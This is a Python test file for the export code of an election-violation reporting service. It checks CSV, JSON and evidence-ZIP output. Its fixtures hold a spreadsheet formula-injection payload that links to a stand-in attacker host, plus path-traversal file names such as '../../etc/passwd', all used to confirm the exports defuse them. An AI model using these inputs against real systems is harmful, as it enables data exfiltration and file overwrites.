"""Exports: CSV and JSON round-trip exactly (formula cells defused), and the evidence ZIP's
manifest matches what is inside it, with the sender's file names never used as paths."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import zipfile
from datetime import datetime, timedelta
from pathlib import Path

import pytest

from services.evidence import read
from services.exports import EXPORT_FIELDS, evidence_bundle, reports_csv, reports_json
from storage.crypto import Keys
from storage.models import EvidenceRecord, Report

KEYS = Keys("unit-test-secret-key-0123456789abcdef")
EXPORTED_AT = "2024-03-17T18:30:00+00:00"
INTERNAL = ("id", "reporter_id", "submission_key", "receipt_hash", "taken_by", "moderator_message_id",
            "alerted_at", "deadline_reminded", "status_changed_at", "kind")

JPEG = b"\xff\xd8\xff\xe0" + bytes(range(256)) * 4
MP4 = b"\x00\x00\x00\x18ftypmp42" + b"\x01\x02" * 500
PDF = b"%PDF-1.4\n" + "протокол".encode() + b"\n%%EOF\n"


def make_report(number: int = 1, **overrides) -> Report:
    fields = dict(
        id=number, reference=f"KZ-{number:06d}", reporter_id=40 + number, status="new",
        submitted_at="2024-03-17T09:15:00+00:00", reporter_role="observer", accredited=True,
        category="vote_buying", subcategory="vote_buying.cash", region="almaty_city",
        precinct="123", place=None, latitude=43.238949, longitude=-76.889709,
        occurred_at="2024-03-17T08:50:00+00:00",
        description="Раздавали деньги; «голосуй за нас».", contact_allowed=False,
        submission_key=f"secret-key-{number}", taken_by=7, moderator_message_id=555,
        alerted_at="2024-03-17T09:16:00+00:00", deadline_reminded="x",
    )
    return Report(**{**fields, **overrides})


def tricky_reports() -> list[Report]:
    return [
        make_report(1),
        make_report(2, description='Сайлау учаскесінде, "карусель"; комиссия төрағасы\nбәрін көрді\r\nтағы',
                    reporter_role="voter", accredited=False, contact_allowed=True,
                    status_note="Проверено, ок", duplicate_of="KZ-000001", latitude=None, longitude=None,
                    precinct=None, subcategory=None),
        make_report(3, description='=HYPERLINK("http://evil.example/?x="&A1,"click")',
                    place="+7 701 000 00 00", status_note="-1+1", duplicate_of="@cec",
                    external_ref="\tTab", external_date="\rCR", escalated_at="2024-03-18T10:00:00+00:00"),
    ]


def expected_cell(value) -> str:
    """What a spreadsheet user should see, written out independently of the module."""
    if value is None:
        return ""
    if value is True or value is False:
        return str(int(value))
    if isinstance(value, str):
        return "'" + value if value[:1] in ("=", "+", "-", "@", "\t", "\r") else value
    return str(value)


def parse_csv(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "Excel needs the BOM to read Cyrillic as UTF-8"
    text = data[3:].decode("utf-8")
    reader = csv.DictReader(io.StringIO(text, newline=""))
    assert tuple(reader.fieldnames) == EXPORT_FIELDS
    return list(reader)


# ---- CSV and JSON ----------------------------------------------------------------------------


def test_export_fields_are_the_public_ones_in_order():
    assert EXPORT_FIELDS[:4] == ("reference", "status", "submitted_at", "occurred_at")
    assert EXPORT_FIELDS[-1] == "public_note" and len(EXPORT_FIELDS) == 24  # violations only: no kind
    assert "priority" in EXPORT_FIELDS  # an urgent report ("it is happening now") is exported as such
    assert "receipt_hash" not in EXPORT_FIELDS  # the receipt's hash is the reporter's, not the public's
    # every field of the model is exported or named as internal, so a new field is not forgotten
    assert set(EXPORT_FIELDS) | set(INTERNAL) == set(Report.model_fields)
    assert set(EXPORT_FIELDS) <= set(Report.model_fields)
    assert not set(EXPORT_FIELDS) & set(INTERNAL)


def test_csv_parses_back_to_the_same_values():
    reports = tricky_reports()
    rows = parse_csv(reports_csv(reports))
    assert rows == [{f: expected_cell(getattr(r, f)) for f in EXPORT_FIELDS} for r in reports]
    # spot checks against literal text, so a shared mistake in expected_cell cannot hide
    assert rows[0]["accredited"] == "1" and rows[0]["contact_allowed"] == "0"
    assert rows[0]["longitude"] == "-76.889709" and rows[0]["place"] == ""
    assert rows[1]["description"].endswith("бәрін көрді\r\nтағы")
    assert rows[2]["description"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'
    assert rows[2]["place"] == "'+7 701 000 00 00"
    assert rows[2]["duplicate_of"] == "'@cec"
    assert rows[2]["external_ref"] == "'\tTab" and rows[2]["external_date"] == "'\rCR"


def test_exports_leave_out_internal_fields():
    report = make_report(9, reporter_id=987654321, taken_by=123454321, moderator_message_id=555666777,
                         alerted_at="ALERTED-MARK", deadline_reminded="REMINDED-MARK")
    text = reports_csv([report]).decode("utf-8-sig") + reports_json([report]).decode("utf-8")
    for internal in ("secret-key-9", "987654321", "123454321", "555666777", "ALERTED-MARK", "REMINDED-MARK"):
        assert internal not in text


def test_csv_of_no_reports_is_just_the_header():
    assert parse_csv(reports_csv([])) == []


def test_json_parses_back_to_the_same_rows():
    reports = tricky_reports()
    data = reports_json(reports)
    assert "учаскесінде".encode() in data  # ensure_ascii=False: readable, not \\u escapes
    document = json.loads(data.decode("utf-8"))
    assert set(document) == {"exported_at", "count", "reports"}
    assert document["count"] == 3
    assert document["reports"] == [{f: getattr(r, f) for f in EXPORT_FIELDS} for r in reports]
    assert [list(row) for row in document["reports"]] == [list(EXPORT_FIELDS)] * 3
    assert document["reports"][2]["description"].startswith("=HYPERLINK(")  # JSON is not a spreadsheet
    exported = datetime.fromisoformat(document["exported_at"])
    assert exported.utcoffset() == timedelta(0)


# ---- evidence bundle -------------------------------------------------------------------------


def store(data_dir: Path, name: str, data: bytes) -> str:
    relative = f"evidence/{name[:2]}/{name}.enc"
    (data_dir / relative).parent.mkdir(parents=True, exist_ok=True)
    (data_dir / relative).write_bytes(KEYS.encrypt_file(data))
    return relative


def record(id: int, kind: str, mime: str | None, data: bytes | None, stored_path: str | None,
           **overrides) -> EvidenceRecord:
    fields = dict(id=id, kind=kind, file_id=f"FILE-{id}", file_unique_id=f"UNIQ-{id}", mime_type=mime,
                  size=len(data) if data is not None else 50_000_000,
                  sha256=hashlib.sha256(data).hexdigest() if data is not None else None,
                  received_at=f"2024-03-17T09:0{id}:00+00:00", stored_path=stored_path)
    return EvidenceRecord(**{**fields, **overrides})


@pytest.fixture
def evidence(tmp_path: Path):
    data_dir = tmp_path / "data"
    tampered = store(data_dir, "cccc", b"will be altered")
    blob = bytearray((data_dir / tampered).read_bytes())
    blob[-1] ^= 0x01
    (data_dir / tampered).write_bytes(bytes(blob))
    records = [
        # given out of id order on purpose: the bundle orders by id
        record(3, "document", "application/pdf", PDF, store(data_dir, "bbbb", PDF),
               file_name="../../etc/passwd"),
        record(1, "photo", "image/jpeg", JPEG, store(data_dir, "aaaa", JPEG),
               captured_at="2024-03-17T08:49:12", camera_model="Apple iPhone 12", had_gps=True,
               file_name="/etc/shadow"),
        record(2, "video", "video/mp4", None, None, too_big=True, file_name="..\\..\\evil.mp4"),
        record(4, "voice", "audio/ogg; codecs=opus", b"will be altered", tampered),
        record(5, "audio", "audio/x-weird", b"OggS gone", "evidence/dd/dddd.enc"),
    ]
    originals = {1: JPEG, 3: PDF}
    return records, (lambda relative: read(data_dir, relative, KEYS)), originals


def open_bundle(data: bytes) -> tuple[zipfile.ZipFile, dict]:
    bundle = zipfile.ZipFile(io.BytesIO(data))
    assert bundle.testzip() is None
    return bundle, json.loads(bundle.read("manifest.json").decode("utf-8"))


def test_bundle_holds_the_originals_and_a_manifest_that_checks_out(evidence):
    records, open_file, originals = evidence
    bundle, manifest = open_bundle(evidence_bundle(make_report(1), records, open_file, exported_at=EXPORTED_AT))
    assert sorted(bundle.namelist()) == sorted([
        "evidence/KZ-000001-1.jpg", "evidence/KZ-000001-3.pdf", "report.json", "manifest.json", "README.txt",
    ])
    assert manifest["reference"] == "KZ-000001" and manifest["exported_at"] == EXPORTED_AT
    entries = manifest["evidence"]
    assert [e["number"] for e in entries] == [1, 2, 3, 4, 5]
    assert [e["file_unique_id"] for e in entries] == ["UNIQ-1", "UNIQ-2", "UNIQ-3", "UNIQ-4", "UNIQ-5"]
    by_id = {r.id: r for r in records}
    for number in (1, 3):
        entry, rec = entries[number - 1], by_id[number]
        inside = bundle.read(entry["file"])
        assert inside == originals[number]
        assert entry["in_bundle"] is True and entry["matches"] is True and entry["error"] is None
        assert entry["sha256_in_bundle"] == hashlib.sha256(inside).hexdigest() == entry["sha256"] == rec.sha256
        assert entry["size"] == len(inside)
        assert bundle.getinfo(entry["file"]).compress_type == zipfile.ZIP_STORED
    photo = entries[0]
    assert (photo["kind"], photo["mime_type"], photo["received_at"]) == ("photo", "image/jpeg", by_id[1].received_at)
    assert (photo["captured_at"], photo["camera_model"], photo["had_gps"], photo["too_big"]) == (
        "2024-03-17T08:49:12", "Apple iPhone 12", True, False)
    # What in the photo's own data may identify the reporter, for whoever passes it on.
    assert photo["identifying_metadata"] == ["gps", "device"] and entries[2]["identifying_metadata"] == []
    for name in ("report.json", "manifest.json", "README.txt"):
        assert bundle.getinfo(name).compress_type == zipfile.ZIP_DEFLATED


def test_too_big_item_is_listed_but_has_no_file(evidence):
    records, open_file, _ = evidence
    bundle, manifest = open_bundle(evidence_bundle(make_report(1), records, open_file, exported_at=EXPORTED_AT))
    entry = manifest["evidence"][1]
    assert entry["too_big"] is True and entry["in_bundle"] is False and entry["file"] is None
    assert entry["file_id"] == "FILE-2" and entry["sha256_in_bundle"] is None
    assert not [n for n in bundle.namelist() if n.startswith("evidence/KZ-000001-2")]


def test_unreadable_files_are_reported_and_the_bundle_still_made(evidence):
    records, open_file, _ = evidence
    bundle, manifest = open_bundle(evidence_bundle(make_report(1), records, open_file, exported_at=EXPORTED_AT))
    altered, missing = manifest["evidence"][3], manifest["evidence"][4]
    for entry in (altered, missing):
        assert entry["in_bundle"] is False and entry["file"] is None and entry["too_big"] is False
        assert entry["error"] and entry["sha256_in_bundle"] is None
    assert "altered" in altered["error"]
    assert "missing" in missing["error"]
    assert not [n for n in bundle.namelist() if n.startswith(("evidence/KZ-000001-4", "evidence/KZ-000001-5"))]


def test_open_file_failing_in_any_way_is_reported():
    def broken(_: str) -> bytes:
        raise RuntimeError("disk on fire")

    rec = record(1, "photo", "image/jpeg", JPEG, "evidence/aa/aaaa.enc")
    bundle, manifest = open_bundle(evidence_bundle(make_report(1), [rec], broken, exported_at=EXPORTED_AT))
    assert manifest["evidence"][0]["in_bundle"] is False and manifest["evidence"][0]["error"]
    assert [n for n in bundle.namelist() if n.startswith("evidence/")] == []


def test_a_file_that_differs_from_its_recorded_hash_is_flagged():
    rec = record(1, "photo", "image/png", b"\x89PNG\r\n\x1a\n original", "evidence/x")
    swapped = b"\x89PNG\r\n\x1a\n swapped"
    bundle, manifest = open_bundle(evidence_bundle(make_report(1), [rec], lambda _: swapped, exported_at=EXPORTED_AT))
    entry = manifest["evidence"][0]
    assert entry["file"] == "evidence/KZ-000001-1.png" and bundle.read(entry["file"]) == swapped
    assert entry["sha256_in_bundle"] == hashlib.sha256(swapped).hexdigest() != entry["sha256"]
    assert entry["matches"] is False


def test_sender_file_names_never_become_paths(evidence):
    records, open_file, _ = evidence
    data = evidence_bundle(make_report(1), records, open_file, exported_at=EXPORTED_AT)
    bundle, _ = open_bundle(data)
    for name in bundle.namelist():
        assert ".." not in name and not name.startswith("/") and "\\" not in name
        assert "passwd" not in name and "shadow" not in name and "evil" not in name
    assert b"../../etc/passwd" not in data


def test_extension_comes_from_the_mime_type():
    kinds = [("image/jpeg", "jpg"), ("image/png", "png"), ("video/mp4", "mp4"), ("audio/ogg", "ogg"),
             ("application/pdf", "pdf"), ("application/x-msdownload", "bin"), (None, "bin")]
    records = [record(i, "document", mime, b"x", f"p{i}", file_name="evil.exe")
               for i, (mime, _) in enumerate(kinds, start=1)]
    bundle, manifest = open_bundle(evidence_bundle(make_report(1), records, lambda _: b"x", exported_at=EXPORTED_AT))
    assert [e["file"] for e in manifest["evidence"]] == [
        f"evidence/KZ-000001-{i}.{ext}" for i, (_, ext) in enumerate(kinds, start=1)]


def test_report_json_and_readme(evidence):
    records, open_file, _ = evidence
    report = tricky_reports()[1]
    bundle, _ = open_bundle(evidence_bundle(report, records, open_file, exported_at=EXPORTED_AT))
    assert json.loads(bundle.read("report.json")) == {f: getattr(report, f) for f in EXPORT_FIELDS}
    readme = bundle.read("README.txt").decode("utf-8")
    assert "sha256sum" in readme and "manifest.json" in readme and report.reference in readme
    assert "Как проверить" in readme  # Russian half present


def test_bundle_is_deterministic(evidence):
    records, open_file, _ = evidence
    first = evidence_bundle(make_report(1), records, open_file, exported_at=EXPORTED_AT)
    again = evidence_bundle(make_report(1), list(reversed(records)), open_file, exported_at=EXPORTED_AT)
    assert first == again
    info = zipfile.ZipFile(io.BytesIO(first)).getinfo("report.json")
    assert info.date_time == (2024, 3, 17, 18, 30, 0)


# ---- the analyst's columns ---------------------------------------------------------------------


def test_the_analysts_columns_beside_the_fields():
    """Local time beside UTC, labels beside codes, the assignee, the first action, evidence and GPS
    counts, the running deadlines and every escalation step, in CSV (one cell each) and JSON."""
    from datetime import date, timezone

    from services import export_columns
    from services.i18n import Translator
    from storage.moderation import EscalationStep

    almaty = timezone(timedelta(hours=5))
    report = make_report(1, status="escalated", category="station", subcategory="stuffing", region="karaganda",
                         occurred_at="2026-12-01T07:00:00+00:00", escalated_to="court",
                         escalated_at="2026-12-06T04:00:00+00:00")
    chain = [EscalationStep(target="commission", external_ref="12-3/45", external_date="2026-12-01",
                            created_at="2026-12-01T05:00:00+00:00", actor="m", answer_kind="refused",
                            answer_date="2026-12-03"),
             EscalationStep(target="prosecutor", external_ref="2-145", external_date="2026-12-05",
                            created_at="2026-12-05T05:00:00+00:00", actor="m"),
             EscalationStep(target="court", external_ref=None, external_date="2026-12-06",
                            created_at="2026-12-06T04:00:00+00:00", actor="m")]
    facts = export_columns.Facts(tz=almaty, today=date(2026, 12, 9), names={7: "Айгерім"},
                                 first_actions={1: "2026-12-01T04:30:00+00:00"}, evidence={1: 3}, gps={1: 1},
                                 chains={1: chain})
    extra = export_columns.extra(Translator("ru"), report, facts)
    assert extra["submitted_at_local"] == "2024-03-17T14:15:00+05:00"
    assert extra["occurred_at_local"] == "2026-12-01T12:00:00+05:00"
    assert extra["first_action_at_local"] == "2026-12-01T09:30:00+05:00"
    assert (extra["status_label"], extra["region_label"], extra["escalated_to_label"]) == (
        "Направлено в соответствующий орган", "Карагандинская область", "Суд")
    assert (extra["assignee"], extra["evidence_count"], extra["evidence_with_gps"], extra["location_shared"]) == (
        "Айгерім", 3, 1, True)
    assert [step["body"] for step in extra["escalation_steps"]] == ["commission", "prosecutor", "court"]
    assert extra["escalation_steps"][0]["answer"] == "refused"
    # Still running: the prosecutor's answer and the court's (both appeal windows were met).
    assert [(w["kind"], w["body"], w["day"], w["state"]) for w in extra["running_deadlines"]] == [
        ("answer", "prosecutor", "2026-12-10", "soon"), ("answer", "court", "2026-12-11", "soon")]

    csv_rows = list(csv.DictReader(io.StringIO(reports_csv([report], {1: extra})[3:].decode("utf-8"), newline="")))
    assert csv_rows[0]["escalation_steps"].startswith("1. commission (Вышестоящая избирательная комиссия) № 12-3/45"
                                                      " filed 2026-12-01, refused 2026-12-03; 2. prosecutor")
    assert csv_rows[0]["running_deadlines"] == "answer prosecutor#2 2026-12-10 soon; answer court#3 2026-12-11 soon"
    assert csv_rows[0]["reference"] == "KZ-000001"  # the report's own fields first, as before
    document = json.loads(reports_json([report], {1: extra}))
    assert len(document["reports"][0]["escalation_steps"]) == 3
